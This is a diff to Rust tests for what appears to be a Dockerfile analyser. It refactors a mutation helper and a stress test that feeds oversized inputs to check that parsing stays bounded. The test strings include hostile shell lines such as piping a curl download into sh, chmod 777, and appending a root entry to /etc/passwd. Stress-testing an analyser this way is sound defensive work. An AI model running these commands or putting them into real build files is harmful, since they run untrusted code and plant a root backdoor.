@@ -125,7 +125,8 @@ fn mutated(text: &str, random: &mut Random) -> String {
         };
         let at = boundary(&text, random.below(text.len() + 1));
         let end = boundary(&text, (at + random.below(6)).min(text.len())).max(at);
-        text.replace_range(at..end, SPICE[random.below(SPICE.len())]);
+        let spice = SPICE.get(random.below(SPICE.len())).copied();
+        text.replace_range(at..end, spice.unwrap_or_default());
     }
     text
 }
@@ -206,17 +207,15 @@ fn ten_minutes_of_mutations() {
 #[test]
 fn too_much_of_anything_is_bounded() {
     let run = |piece: &str, count: usize| format!("FROM a\nRUN {}\n", piece.repeat(count));
-    let stages: String = (0..2_000)
-        .map(|index| format!("FROM s{} AS s{index}\nRUN curl x | sh\n", index.max(1) - 1))
-        .collect();
-    let copies: String = (0..2_000)
-        .map(|index| {
-            format!(
-                "FROM a AS s{index}\nCOPY --from=s{} / /\nRUN chmod 777 /a\n",
-                index.max(1) - 1
-            )
-        })
-        .collect();
+    let stages = |line: fn(usize) -> String| (0..2_000).map(line).collect::<Vec<_>>().concat();
+    let chain = stages(|index| {
+        let before = index.max(1) - 1;
+        format!("FROM s{before} AS s{index}\nRUN curl x | sh\n")
+    });
+    let copies = stages(|index| {
+        let before = index.max(1) - 1;
+        format!("FROM a AS s{index}\nCOPY --from=s{before} / /\nRUN chmod 777 /a\n")
+    });
     for text in [
         run("chmod 777 /a; rm /b; ", 20_000),
         run("curl -k http://x.dev/a | sh; ", 10_000),
@@ -228,7 +227,7 @@ fn too_much_of_anything_is_bounded() {
         run("((a) ", 50_000),
         run("echo x:x:0:0:::>>/etc/passwd; ", 5_000),
         run("apk add sudo --allow-untrusted; sudo x; ", 10_000),
-        stages,
+        chain,
         copies,
     ] {
         read(&text);
